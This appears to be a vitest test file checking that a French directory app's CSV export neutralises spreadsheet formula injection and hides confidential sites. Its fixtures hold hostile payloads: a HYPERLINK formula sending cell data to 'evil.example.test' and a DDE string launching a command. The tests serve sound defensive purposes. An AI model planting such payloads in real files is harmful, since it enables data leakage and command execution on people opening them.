import { actorRepository } from '@pare/db';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { getRefused } from '../helpers/api-expectations.ts';
import { createTestApp, type TestApp } from '../helpers/test-app.ts';
import { hostileActor } from './helpers.ts';

const BOM = [0xef, 0xbb, 0xbf];

let t: TestApp;
let published: number;

async function download(url: string): Promise<{ res: Response; bytes: Uint8Array; text: string }> {
  const res = await t.app.request(url);
  const bytes = new Uint8Array(await res.arrayBuffer());
  return { res, bytes, text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes) };
}

const rowsOf = (text: string, delimiter = ','): Record<string, string>[] =>
  parse(text, { bom: true, columns: true, delimiter, skip_empty_lines: true });

beforeAll(() => {
  t = createTestApp();
  const repo = actorRepository(t.db);
  // Written straight through the repository, as an import or a careless edit could: the export must defend itself.
  repo.createActor(
    hostileActor({
      slug: 'test-hostile-hyperlink',
      name: '=HYPERLINK("https://evil.example.test/?leak="&A1,"Cliquez")',
      description: "+cmd|' /C calc'!A0",
    }),
  );
  repo.createActor(hostileActor({ slug: 'test-hostile-sum', name: 'Somme hostile (test)', description: '@SUM(1)' }));
  repo.createActor(
    hostileActor({
      slug: 'test-hostile-minus',
      name: 'Moins hostile (test)',
      description: '-2+3',
      // Brest: west of Greenwich, so a real negative longitude must stay a number.
      sites: [{ label: 'Local test Brest', address: '2 rue de Test', commune_code: '29019', confidential: false }],
    }),
  );
  repo.createActor(hostileActor({ slug: 'test-hostile-tab', name: 'Tabulation hostile (test)', description: '\t=1+1' }));
  repo.createActor(hostileActor({ slug: 'test-hostile-cr', name: 'Retour hostile (test)', description: '\r=1+1' }));
  published = t.db.prepare(`SELECT count(*) FROM actors WHERE status = 'published'`).pluck().get() as number;
});
afterAll(() => t.close());

describe('GET /api/exports/actors.csv', () => {
  it('is a UTF-8 CSV download with a BOM, named pare-acteurs.csv', async () => {
    const { res, bytes } = await download('/api/exports/actors.csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="pare-acteurs.csv"');
    expect([...bytes.slice(0, 3)]).toEqual(BOM);
    // Only one BOM, at the very start, although the body is written batch by batch.
    expect(Buffer.from(bytes).indexOf(Buffer.from(BOM), 3)).toBe(-1);
  });

  it('parses back to one row per published actor, with the documented columns', async () => {
    const { text } = await download('/api/exports/actors.csv');
    const rows = rowsOf(text);
    expect(rows).toHaveLength(published);
    expect(Object.keys(rows[0] ?? {})).toEqual(
      expect.arrayContaining([
        'id',
        'slug',
        'nom',
        'type',
        'description',
        'publics',
        'actions',
        'territoire',
        'communes',
        'departements',
        'telephone',
        'email',
        'site_web',
        'adresse',
        'latitude',
        'longitude',
        'lieu_confidentiel',
        'source',
        'verifie_le',
      ]),
    );
    expect(new Set(rows.map((r) => r.id)).size).toBe(published);
  });

  it('describes an actor with its public contacts, its public site and its territory', async () => {
    const rows = rowsOf((await download('/api/exports/actors.csv')).text);
    const metz = rows.find((r) => r.slug === 'test-association-familles-metz');
    expect(metz).toMatchObject({
      nom: 'Association test Familles Metz (données de test)',
      publics: 'familles',
      actions: 'ecoute|soutien-familles',
      territoire: 'communes',
      communes: '57463',
      telephone: '03 00 00 00 02',
      adresse: '1 place de Test',
      commune_du_lieu: 'Metz',
      latitude: '49.1196',
      longitude: '6.1757',
      lieu_confidentiel: 'non',
      url: 'http://localhost/acteurs/test-association-familles-metz',
      verifie_le: '2025-06-01',
    });
    const foyer = rows.find((r) => r.slug === 'test-foyer-confidentiel-thionville');
    // A confidential site: the row says so, keeps its département, and every private column is empty.
    const empty = ['adresse', 'latitude', 'longitude', 'telephone', 'email'].map((column) => [column, '']);
    expect(foyer).toMatchObject({ lieu_confidentiel: 'oui', ...Object.fromEntries(empty), departements: '57' });
  });

  it.each([
    ['?sep=;', '/api/exports/actors.csv?sep=;'],
    ['?sep=%3B', '/api/exports/actors.csv?sep=%3B'],
    ['?separator=semicolon', '/api/exports/actors.csv?separator=semicolon'],
  ])('%s gives the same rows separated by semicolons, for French spreadsheets', async (_, url) => {
    const comma = rowsOf((await download('/api/exports/actors.csv')).text);
    const { text, bytes } = await download(url);
    expect([...bytes.slice(0, 3)]).toEqual(BOM);
    expect(text.slice(1).split('\r\n')[0]).toMatch(/^id;slug;nom;type;/);
    const semicolon = rowsOf(text, ';');
    expect(semicolon.map((r) => r.slug)).toEqual(comma.map((r) => r.slug));
    expect(semicolon).toEqual(comma);
  });

  it.each([
    ['an unknown separator', '/api/exports/actors.csv?sep=|', 'sep'],
    ['an unknown separator name', '/api/exports/actors.csv?separator=tab', 'separator'],
    ['two different separators', '/api/exports/actors.csv?sep=,&separator=semicolon', 'separator'],
  ])('%s gets a 400 naming the field', async (_, url, field) => {
    const { body } = await getRefused(t.app, url, field);
    expect(body.error).toBe('validation_error');
  });
});

describe('a spreadsheet opening the CSV runs nothing', () => {
  it.each([
    ['test-hostile-hyperlink', 'nom', '=HYPERLINK("https://evil.example.test/?leak="&A1,"Cliquez")'],
    ['test-hostile-hyperlink', 'description', "+cmd|' /C calc'!A0"],
    ['test-hostile-sum', 'description', '@SUM(1)'],
    ['test-hostile-minus', 'description', '-2+3'],
    ['test-hostile-tab', 'description', '\t=1+1'],
    // The line after the carriage return starts like a formula too: it gets its own apostrophe.
    ['test-hostile-cr', 'description', "\r'=1+1"],
  ])('%s: its %s comes out behind an apostrophe', async (slug, column, value) => {
    for (const [url, delimiter] of [
      ['/api/exports/actors.csv', ','],
      ['/api/exports/actors.csv?sep=;', ';'],
    ] as const) {
      const row = rowsOf((await download(url)).text, delimiter).find((r) => r.slug === slug);
      expect(row?.[column]).toBe(`'${value}`);
    }
  });

  it('no cell of the export starts with a formula character, numbers aside', async () => {
    const { text } = await download('/api/exports/actors.csv');
    const cells = (parse(text, { bom: true, skip_empty_lines: true }) as string[][]).flat().filter((c) => !/^-?\d+(\.\d+)?$/.test(c));
    expect(cells.length).toBeGreaterThan(100);
    for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
  });

  it('a negative longitude stays a number', async () => {
    const row = rowsOf((await download('/api/exports/actors.csv')).text).find((r) => r.slug === 'test-hostile-minus');
    expect(Number(row?.longitude)).toBeLessThan(-4);
    expect(row?.longitude).toMatch(/^-\d/);
  });
});
